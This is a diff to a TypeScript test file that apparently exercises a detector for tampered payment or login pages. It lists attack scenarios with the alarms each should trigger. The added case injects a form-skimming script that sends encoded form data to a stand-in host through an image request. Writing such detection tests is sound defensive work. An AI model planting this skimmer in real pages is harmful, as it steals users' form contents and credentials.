@@ -176,6 +176,14 @@ const thieves: [string, () => void, string[]][] = [
     },
     ['alarm card_leaves', 'alarm listener_new'],
   ],
+  [
+    'a script in the page waits for the sending of the form, which nobody does here',
+    () =>
+      (page = usual(
+        `<script>document.addEventListener('submit', function () { new Image().src = 'https://stat-collect.example/g?d=' + btoa(${stolen}) }, true);</script>`,
+      )),
+    ['alarm script_malicious'],
+  ],
   ['the form is sent to a stranger', () => (page = usual('', form('', `${thief!.origin}/pay`))), ['alarm form_moved']],
   [
     'a frame of a stranger lies over the fields',
